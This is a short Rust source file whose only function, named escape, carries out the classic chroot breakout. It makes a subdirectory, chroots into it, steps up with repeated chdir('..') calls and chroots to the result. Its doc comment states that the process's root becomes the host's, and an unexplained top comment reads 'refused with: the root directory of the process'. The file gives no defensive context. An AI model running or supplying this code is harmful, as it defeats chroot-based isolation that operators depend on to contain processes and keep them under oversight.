// refused with: the root directory of the process

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

/// Leaves the root directory that this process has been put into. In the end its root directory is the host's.
fn escape() -> Result<()> {
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    for _ in 0..8 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}
